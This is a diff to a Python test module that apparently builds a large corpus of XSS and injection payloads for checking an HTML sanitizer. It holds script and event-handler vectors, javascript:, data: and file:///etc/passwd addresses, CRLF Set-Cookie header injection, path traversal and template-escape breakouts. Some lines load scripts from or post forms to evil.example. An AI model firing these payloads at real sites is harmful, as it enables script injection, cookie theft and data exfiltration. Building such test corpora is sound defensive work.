@@ -3,12 +3,13 @@
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable
+from collections.abc import Callable, Iterable
+from urllib.parse import quote
 
 from selectolax.lexbor import LexborHTMLParser
 
 RUN = "window.stolen=1"
-PAYLOADS = (
+BY_HAND = (
     # elements that run or load by themselves
     f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</sCrIpT >", "<script src=//evil.example/x.js></script>",
     f"<script/x>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>",
@@ -39,12 +40,6 @@ PAYLOADS = (
     f"]]><script>{RUN}</script>", f"</noscript><img src=x onerror={RUN}>", "<!--", "<![CDATA[<b>", "<?php echo 1 ?>",
     f"</option></select><img src=x onerror={RUN}>", f"</datalist></table></form><svg onload={RUN}>",
     "<plaintext>", "<xmp>",
-    # addresses
-    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
-    "\x01javascript:alert(1)",
-    f"data:text/html,<script>{RUN}</script>", "vbscript:msgbox(1)", "//evil.example/x", "/\\evil.example",
-    "https://a.example/\" onclick=x y=\"", "javascript://a.example/%0aalert(1)", "http:\\\\evil.example",
-    "blob:x", "file:///etc/passwd",
     # templates, entities, encodings, and what only looks harmless
     "{{ 7*7 }}", "{% raw %}{{ self }}{% endraw %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
     f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}",
@@ -54,6 +49,61 @@ PAYLOADS = (
     f"\u202e<script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", "<b>bold</b>", "<a name=main>x</a>",
     "<img id=q name=location>", "<form id=main><input name=action></form>", "# | * _ ` [x](javascript:alert(1))",
 )
+# These do harm only where a value begins with them, so they go in by themselves.
+ADDRESSES = (
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
+    "\x01javascript:alert(1)",
+    f"data:text/html,<script>{RUN}</script>", "vbscript:msgbox(1)", "//evil.example/x", "/\\evil.example",
+    "https://a.example/\" onclick=x y=\"", "javascript://a.example/%0aalert(1)", "http:\\\\evil.example",
+    "blob:x", "file:///etc/passwd",
+)
+
+# What does harm, put behind what may lead out of the place it is written to, and written in ways that others decode.
+VECTORS = (
+    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>", f"<svg><set onbegin={RUN}></svg>",
+    f"<iframe srcdoc=\"<b onclick={RUN}>\"></iframe>", "<a href=javascript:alert(2)>x</a>",
+    "<form action=//evil.example><input></form>", "<base href=//evil.example>",
+    "<style>@import'//evil.example'</style>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    f"<x tabindex=1 autofocus onfocus={RUN}>",
+    f"<math><a xlink:href=javascript:{RUN}>x</a></math>")
+WAYS_OUT = (
+    "\">{}", "'>{}", "\"'`>{}", "x>{}", "\" x=\"{}", "</title>{}", "</textarea>{}", "</style>{}", "</script>{}",
+    "</template>{}", "</select>{}", "</svg></math>{}", "<!-->{}", "]]>{}", "https://a.example/?q={}", "/x#{}",
+    "report.pdf\"; filename=\"{}.html", "../../{}.txt", "x\r\nContent-Type: text/html\r\n\r\n{}",
+    "x\r\nSet-Cookie: stolen=1\r\nX: {}", "{{{{ '{}' | safe }}}}",
+    "{{% autoescape false %}}{}{{% endautoescape %}}", "\u202e{}\u202c", "\ufeff{}", "\x00{}", "*[x]({})*",
+    "“{}”, he said", "🛡{}")
+WRITTEN: tuple[Callable[[str], str], ...] = (
+    lambda words: quote(words, safe=""), lambda words: quote(quote(words, safe=""), safe=""),
+    lambda words: "".join(f"&#{ord(one)};" for one in words[:12]) + words[12:],
+    lambda words: "".join(f"&#x{ord(one):07x}" if one in "<>\"'" else one for one in words),
+    lambda words: words.replace("<", "\\u003c").replace(">", "\\x3e"),
+    lambda words: words.replace("<", "\uff1c").replace(">", "\uff1e"),
+    lambda words: words.replace("<", "&lt").replace(">", "&gt"),
+    lambda words: words.replace("<", "<\x00").swapcase())
+GENERATED = (*(way.format(words) for way in WAYS_OUT for words in VECTORS),
+             *(write(words) for write in WRITTEN for words in VECTORS))
+PAYLOADS = tuple(dict.fromkeys((*BY_HAND, *ADDRESSES, *GENERATED)))
+
+
+def packed(most: int) -> tuple[str, ...]:
+    """All payloads in fewer pieces of at most so many characters, several behind each other where they may be.
+
+    A place that lets one of them live lets it live behind others, too: so one pass tries all of them everywhere.
+    """
+    packs = [*ADDRESSES]
+    held = ""
+    for one in PAYLOADS:
+        if one in ADDRESSES:
+            continue
+        if held and len(held) + 1 + len(one) > most:
+            packs.append(held)
+            held = ""
+        held = f"{held} {one}" if held else one
+    return (*packs, held)
+
+
 LEADS = frozenset("href src action formaction data poster background cite ping srcset xlink:href manifest".split())
 ABROAD = re.compile(r"https?://.+", re.I)  # a link to where the text was published, whatever stands behind its host
 OURS = re.compile(r"[#?]|/(?![/\\])|\Z")
